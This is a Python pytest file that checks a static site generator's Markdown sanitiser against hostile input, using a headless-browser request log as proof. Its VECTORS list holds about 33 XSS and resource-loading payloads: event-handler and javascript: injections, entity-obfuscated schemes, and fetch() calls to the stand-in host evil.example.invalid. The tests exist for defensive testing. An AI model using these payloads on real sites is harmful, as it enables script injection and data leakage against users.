"""Hostile input in a project's Markdown: nothing runs, nothing loads from elsewhere.

Every vector the security review found (and more) goes into an extra page and the summary of a
client. The sanitiser must leave none of them in the built HTML (unit level), the build warns
about each, and a real Chromium that opens every page of that client, focuses and clicks what
it can, makes no request outside the test server (the request log is the proof) and runs none
of the payloads.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from generator.pipeline import build_all
from generator.project.markdown import clean, removed, to_html
from generator.render.user import user_markdown

from .conftest import make_repo
from .test_browser import RequestLog, browser, serve  # noqa: F401  (browser is a fixture)
from .test_cli import MINIMAL

EVIL = "evil.example.invalid"
# (name, Markdown or HTML) - each would make a browser contact EVIL, or run script, if it survived
VECTORS = [
    ("backslash host", f'<img src="\\\\{EVIL}/a.png">'),
    ("scheme without slashes", f'<img src="https:{EVIL}/b.png">'),
    ("entity slashes", f'<img src="&#47;&#47;{EVIL}/c.png">'),
    ("onerror", f"<img src=x onerror=\"fetch('http://{EVIL}/onerror')\">"),
    ("inline script", f"<script>fetch('http://{EVIL}/script')</script>"),
    ("alternate stylesheet", f'<link rel="alternate stylesheet" href="http://{EVIL}/alt.css">'),
    ("@import", f"<style>@import url(http://{EVIL}/import.css);</style>"),
    ("image-set", f'<div style="background-image:image-set(url(http://{EVIL}/set.png) 1x)">set</div>'),
    ("entity-quoted url", f'<div style="background:url(&quot;http://{EVIL}/q.png&quot;)">quoted</div>'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/refresh">'),
    ("table background", f'<table background="http://{EVIL}/bg.png"><tr><td>bg</td></tr></table>'),
    ("svg feImage", f'<svg><filter id="f"><feImage href="http://{EVIL}/fe.png"/></filter></svg>'),
    ("iframe", f'<iframe src="http://{EVIL}/frame"></iframe>'),
    ("object", f'<object data="http://{EVIL}/object"></object>'),
    ("embed", f'<embed src="http://{EVIL}/embed">'),
    ("video poster", f'<video poster="http://{EVIL}/poster.png"></video>'),
    ("audio source", f'<audio autoplay><source src="http://{EVIL}/a.mp3"></audio>'),
    ("srcset", f'<img srcset="http://{EVIL}/srcset.png 1x">'),
    ("picture", f'<picture><source srcset="http://{EVIL}/p.png"><img alt=p></picture>'),
    ("base href", f'<base href="http://{EVIL}/">'),
    ("form autofocus", f'<form action="http://{EVIL}/form"><input autofocus onfocus="this.form.submit()"></form>'),
    ("details ontoggle", f"<details open ontoggle=\"fetch('http://{EVIL}/toggle')\"><summary>s</summary></details>"),
    ("ping", f'<a href="#top" ping="http://{EVIL}/ping">ping</a>'),
    ("css variable", f'<div style="--x:url(http://{EVIL}/var.png);background:var(--x)">var</div>'),
    ("svg use", f'<svg><use href="http://{EVIL}/sprite.svg#x"/></svg>'),
    ("markdown image", f"![logo](http://{EVIL}/md.png)"),
    ("javascript link", f"[click](javascript:fetch('http://{EVIL}/js'))"),
    ("javascript link spelled", f"[click](JaVa&#x53;cript:fetch('http://{EVIL}/js2'))"),
    ("data link", "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("attr_list autofocus", f"**bold**{{: autofocus tabindex=0 onfocus=\"fetch('http://{EVIL}/attr')\" }}"),
    ("vbscript", "<a href=\"vbscript:msgbox('x')\">vb</a>"),
    ("entity javascript", f"<a href=\"&#106;avascript:fetch('http://{EVIL}/ent')\">ent</a>"),
    ("style tag import", f'<p style="behavior:url(http://{EVIL}/b.htc)">behaviour</p>'),
]


class Markup(HTMLParser):
    """What a browser would act on: every attribute, and the text of script and style elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.attributes: list[tuple[str, str, str]] = []
        self.code: list[str] = []  # text inside <script> or <style>
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] in ("script", "style"):
            self.code.append(data)


def dangers(html: str, evil: str = EVIL) -> list[str]:
    """Everything in ``html`` that could make a browser contact ``evil`` or run script of a user's.
    Text that merely mentions the host (a link's title, a paragraph) is no danger."""
    parser = Markup()
    parser.feed(html)
    found = [f"<{t} {n}={v!r}>" for t, n, v in parser.attributes if evil in v and n != "title"]
    found += [f"<{t} {n}>" for t, n, _ in parser.attributes if n.startswith("on") or n in ("autofocus", "srcdoc")]
    found += [
        f"<{t} href={v!r}>"
        for t, n, v in parser.attributes
        if n == "href" and v.lower().strip().startswith(("javascript:", "vbscript:", "data:"))
    ]
    found += [f"code: {c[:60]!r}" for c in parser.code if evil in c]
    return found


@pytest.mark.parametrize(("name", "vector"), VECTORS, ids=[name for name, _ in VECTORS])
def test_the_sanitiser_leaves_nothing_of_a_vector(name: str, vector: str) -> None:
    html = to_html(f"Before.\n\n{vector}\n\nAfter.")
    assert "Before." in html and "After." in html
    assert dangers(html) == [], name
    assert {tag for tag, _, _ in _tags(html)} <= {
        "p",
        "a",
        "strong",
        "div",
        "table",
        "tbody",
        "tr",
        "td",
        "details",
        "summary",
        "code",
        "em",
    }, html
    assert removed(vector) or "{:" in vector, f"{name}: the warning would not say what was left out"


def _tags(html: str) -> list[tuple[str, str, str]]:
    parser = Markup()
    parser.feed(html)
    return parser.attributes + [(tag, "", "") for tag in re.findall(r"<([a-z0-9]+)", html)]


def test_clean_keeps_the_structure_readers_need() -> None:
    source = (
        "## Heading\n\nText with **bold**, *em*, `code` and a [link](https://example.org).\n\n"
        '- one\n- two\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n!!! note "Hinweis"\n    Inhalt\n\n[mail](mailto:x@example.org)'
    )
    html = clean(to_html(source))
    for kept in (
        "<strong>bold</strong>",
        "<em>em</em>",
        "<code>code</code>",
        'href="https://example.org"',
        "<li>one</li>",
    ):
        assert kept in html
    assert 'style="text-align:left"' in html and 'class="admonition note"' in html and "mailto:x@example.org" in html
    assert removed(source) == []


def test_headings_stay_markdown_with_their_text_escaped() -> None:
    out = user_markdown("# Title {: onclick=x }\n\nText\n\n## Part *two*\n\nMore", shift=1)
    lines = out.splitlines()
    assert lines[0] == "## Title &#123;: onclick=x &#125;"
    assert "### Part &#42;two&#42;" in lines


def test_relative_links_are_resolved_for_directory_urls_and_broken_ones_found() -> None:
    from generator.project.markdown import Links

    links = Links("seiten/info.md", frozenset({"raci.md", "personen/anna.md", "seiten/info.md", "index.md"}))
    html = to_html("[r](../raci.md) [a](../personen/anna.md#kontakt) [s](info.md) [i](../index.md) [x](nope.md)", links)
    assert 'href="../../raci/"' in html and 'href="../../personen/anna/#kontakt"' in html
    assert 'href="./"' in html and 'href="../../"' in html
    assert links.broken == ["nope.md"]


def test_a_kept_conversion_is_used_only_where_the_site_answers_its_links_alike() -> None:
    """The same Markdown on the same page in another site: the same HTML where its links lead to
    the same pages, its own where they do not; broken links are reported in every site."""
    from generator.project.markdown import Links, _convert

    source = "[r](../raci.md) [a](../personen/anna.md) [x](nope.md)\n\nText."
    sites = [
        frozenset({"raci.md", "personen/anna.md", "index.md"}),
        frozenset({"raci.md", "personen/anna.md", "personen/ben.md"}),  # the same answers
        frozenset({"raci.md"}),  # anna is not in this site
        frozenset({"raci.md", "personen/anna.md", "index.md"}),
    ]
    for pages in sites * 2:
        kept, fresh = Links("seiten/info.md", pages), Links("seiten/info.md", pages)
        assert to_html(source, kept) == _convert(source, fresh)
        assert kept.broken == fresh.broken and "nope.md" in kept.broken
    assert to_html(source) == _convert(source, None)


HOSTILE_PAGE = "# Angriff\n\n" + "\n\n".join(f"## {name}\n\n{vector}\n\nnach {name}" for name, vector in VECTORS)
HOSTILE_SUMMARY = "\n\n".join(vector for _, vector in VECTORS)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    project = MINIMAL.replace("title: CRM\n", "title: CRM\nsummary: " + json.dumps(HOSTILE_SUMMARY) + "\n")
    role = {"id": "it_admin", "name": "IT", "side": "client", "description": HOSTILE_SUMMARY}
    project += "roles:\n  - " + json.dumps(role) + "\n"
    project = project.replace("roles: [project_lead, key_user]", "roles: [project_lead, key_user, it_admin]")
    repo = make_repo(tmp_path_factory.mktemp("hostile") / "repo", {"angriff": project})
    pages = repo / "projects" / "angriff" / "pages"
    pages.mkdir()
    (pages / "angriff.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    run = build_all(repo, [], repo / "site")
    assert [o.state for o in run.outcomes] == ["built"], run.outcomes
    warnings = [d for d in run.check.all_diagnostics() if d.rule == "unsafe-html"]
    assert {d.pos.file for d in warnings} == {"projects/angriff/project.yml", "projects/angriff/pages/angriff.md"}
    return repo / "site" / "angriff", EVIL


def test_no_built_file_holds_the_payloads(hostile_site: tuple[Path, str]) -> None:
    site, evil = hostile_site
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 10
    for file in pages:
        text = file.read_text(encoding="utf-8")
        problems = [d for d in dangers(text, evil) if "javascript:void(0)" not in d]  # Material's own share button
        assert problems == [], (file, problems)


def test_chromium_contacts_no_one_and_runs_nothing(hostile_site: tuple[Path, str], browser) -> None:  # noqa: F811
    site, evil = hostile_site
    server = serve(site)
    base = f"http://127.0.0.1:{server.server_port}/"
    log = RequestLog({urlsplit(base).netloc})
    try:
        context = browser.new_context()
        log.watch(context)
        dialogs: list[str] = []
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for path in ("", "seiten/angriff/", "print_page/"):
            page.goto(base + path)
            page.wait_for_load_state("networkidle")
            for link in page.locator("div.hb-user a").all()[:80]:
                href = link.get_attribute("href") or ""
                if not link.is_visible() or href.startswith(("http", "mailto:", "tel:")) or "/" in href.strip("./#"):
                    continue  # leaving the page is no attack; same-page anchors and focus are
                link.focus()
                link.click(no_wait_after=True, timeout=2000)
            page.keyboard.press("Tab")
            page.wait_for_timeout(300)
        context.close()
    finally:
        server.shutdown()
        server.server_close()
    assert [url for url in log.seen if evil in url] == []
    assert log.foreign() == []
    assert dialogs == []


def test_one_converter_per_thread_converts_like_a_new_one() -> None:
    """to_html reuses a reset Markdown converter: nothing of one piece (abbreviations, footnotes,
    references) reaches the next, and each converts as a converter of its own would."""
    import markdown

    from generator.project import markdown as user

    pieces = [
        "The HTML page.\n\n*[HTML]: Hyper Text Markup Language",
        "HTML again, no definition here.",
        "A note[^1].\n\n[^1]: The footnote.",
        "Another note[^1].\n\n[^1]: Another footnote.",
        "[link][ref]\n\n[ref]: https://example.org/",
        "[link][ref] without the reference",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ]
    for piece in pieces + pieces[::-1]:
        alone = clean(markdown.Markdown(extensions=user.EXTENSIONS, output_format="html").convert(piece), None)
        user._KEPT.clear()  # converted again, not taken from the conversions kept
        assert to_html(piece) == alone, piece
    assert "<abbr" not in to_html("HTML again, no definition here.")
    assert "footnote" not in to_html("[link][ref] without the reference")
